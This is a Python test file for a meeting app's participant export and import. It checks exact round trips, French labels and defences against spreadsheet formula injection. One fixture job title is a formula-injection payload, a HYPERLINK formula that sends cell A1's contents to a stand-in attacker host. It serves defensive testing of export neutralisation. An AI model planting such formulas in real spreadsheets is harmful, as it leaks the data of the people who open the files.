"""An export imports back (issue 14 §2): the participants export, CSV or XLSX, in English or French, uploaded to
another event's import gives every imported column its exact value back — names, phones and needs that start with
what a spreadsheet takes for a formula, labels in words, yes/no answers, countries by code — while the CSV keeps
its apostrophe before formulas and the XLSX types them as text."""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from openimis_be_meeting.formats.tables import neutralise, restore
from openimis_be_meeting.models import Participant, new_checkin_token
from openimis_be_meeting.services import OrganisationService, ParticipantService

from factories import PASSWORD, open_event
from frontend import logged_in, rest_get, rest_post

# Field values as stored; each imported column of the export must come back exactly so.
PEOPLE = [
    {
        "first_name": "-Amina",
        "last_name": "=Ndongo",
        "email": "-amina@example.cm",
        "phone": "+237 699 00 00 01",
        "gender": "FEMALE",
        "role": "ATTENDEE",
        "attendance_mode": "ONLINE",
        "country": "CM",
        "job_title": "@Head of claims",
        "accessibility_needs": "+1 wheelchair",
        "dietary_needs": "'=quoted already",
        "consent_listed": True,
        "consent_photos": False,
        "consent_contact": True,
    },
    {
        "first_name": "+Jean",
        "last_name": "@Mbarga",
        "email": "jean@example.cm",
        "phone": "-237 699 00 00 02",
        "gender": "UNDISCLOSED",
        "role": "DONOR_REPRESENTATIVE",
        "attendance_mode": "IN_PERSON",
        "country": "CI",
        "job_title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "accessibility_needs": "'plain, with an apostrophe",
        "dietary_needs": "  =1+1",
        "consent_listed": False,
        "consent_photos": True,
        "consent_contact": False,
    },
    {
        "first_name": "''=x",
        "last_name": "Ordinary",
        "email": "ordinary@example.cm",
        "phone": "",
        "gender": "",
        "role": "SHOWCASE_PRESENTER",
        "attendance_mode": "IN_PERSON",
        "country": "",
        "job_title": "",
        "accessibility_needs": "",
        "dietary_needs": "",
        "consent_listed": True,
        "consent_photos": True,
        "consent_contact": True,
    },
]
IMPORTED = [*PEOPLE[0]]  # every field above is a column the import reads


@pytest.fixture
def source(admin):
    event = open_event(admin, code="SOURCE")
    organisation = OrganisationService(admin).create(
        {"name": "=Ministère de la Santé", "country": "CM", "organisation_type": "MINISTRY"}
    )
    assert organisation["success"], organisation
    for number, data in enumerate(PEOPLE):
        extra = {"organisation_id": organisation["data"]["id"]} if number == 0 else {}
        result = ParticipantService(admin).register({"event_id": str(event.id), **data, **extra})
        assert result["success"], result
    return event


def stored(event) -> list[dict]:
    people = Participant.objects.live().filter(event=event).select_related("organisation").order_by("email")
    return [
        {**{key: getattr(person, key) for key in IMPORTED}, "organisation": getattr(person.organisation, "name", None)}
        for person in people
    ]


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.django_db
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
@pytest.mark.parametrize("language", ["en", "fr"])
def test_an_export_imports_back_with_every_value_exact(admin, source, extension, language):
    session = logged_in("Admin", PASSWORD)
    exported = rest_get(session, f"events/{source.id}/participants.{extension}", language=language)
    assert exported.status_code == 200
    target = open_event(admin, code="TARGET")

    upload = SimpleUploadedFile(f"export.{extension}", body(exported))
    response = rest_post(session, f"events/{target.id}/participants/import", {"file": upload})

    assert response.status_code == 200, response.content
    report = response.json()
    assert (report["created"], report["errors"]) == (3, []), report
    assert stored(target) == stored(source)
    assert stored(target)[0]["phone"] == "+237 699 00 00 01"


@pytest.mark.django_db
def test_the_french_export_writes_words_the_import_reads(admin, source):
    session = logged_in("Admin", PASSWORD)
    sheet = openpyxl.load_workbook(
        io.BytesIO(body(rest_get(session, f"events/{source.id}/participants.xlsx", language="fr")))
    ).active
    header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    amina = dict(zip(header, next(row for row in rows if "-amina@example.cm" in row), strict=True))

    assert {key: amina[key] for key in ("Gender", "Participation mode", "Agrees to photos", "Country name")} == {
        "Gender": "Femme",
        "Participation mode": "En ligne",
        "Agrees to photos": "non",
        "Country name": "Cameroun",
    }
    assert (amina["First name"], amina["Last name"], amina["Phone"]) == ("-Amina", "=Ndongo", "+237 699 00 00 01")


@pytest.mark.django_db
def test_an_import_reads_labels_in_capitals_and_country_names(admin):
    event = open_event(admin, code="WORDS")
    text = (
        "Last name,First name,Email,Gender,Role,Participation mode,Country,Agrees to be listed\n"
        "Ndongo,Amina,amina@example.cm,FEMME,PARTICIPANT,EN LIGNE,Cameroun,OUI\n"
        "Mbarga,Jean,jean@example.cm,Prefers not to say,Showcase presenter,in-person,Côte d’Ivoire,no\n"
    )
    upload = SimpleUploadedFile("words.csv", text.encode())

    response = rest_post(logged_in("Admin", PASSWORD), f"events/{event.id}/participants/import", {"file": upload})

    assert response.status_code == 200, response.content
    rows = Participant.objects.live().filter(event=event).order_by("email")
    assert [(p.gender, p.role, p.attendance_mode, p.country, p.consent_listed) for p in rows] == [
        ("FEMALE", "ATTENDEE", "ONLINE", "CM", True),
        ("UNDISCLOSED", "SHOWCASE_PRESENTER", "IN_PERSON", "CI", False),
    ]


@pytest.mark.django_db
def test_a_word_that_is_no_label_is_still_refused_in_its_column(admin):
    event = open_event(admin, code="WRONG")
    text = "Last name,First name,Email,Gender,Country\nNdongo,Amina,amina@example.cm,Femelle,Cameroon Republic\n"
    upload = SimpleUploadedFile("wrong.csv", text.encode())

    response = rest_post(
        logged_in("Admin", PASSWORD), f"events/{event.id}/participants/import", {"file": upload, "dryRun": "true"}
    )

    assert response.status_code == 200, response.content
    assert sorted(error["column"] for error in response.json()["errors"]) == ["country", "gender"]


def test_the_csv_apostrophe_is_taken_off_exactly_once():
    for text in ("=1+1", "'=1+1", "''=1", "+237 699", "-Amina", "@x", "\t=1", "  =1", "'plain", "plain", "", "'"):
        assert restore(neutralise(text)) == text, text
    assert neutralise("'=1+1") == "''=1+1"  # an apostrophe the value itself begins with is kept
    assert restore("'+237 699 00 00 01") == "+237 699 00 00 01"  # as older exports wrote phones too


def test_check_in_codes_never_start_with_a_character_a_spreadsheet_reads_specially():
    tokens = [new_checkin_token() for _ in range(5000)]

    assert all(token[0].isascii() and token[0].isalnum() for token in tokens)
    assert {len(token) for token in tokens} == {32}
    assert len(set(tokens)) == len(tokens)
    assert all(neutralise(token) == token for token in tokens)
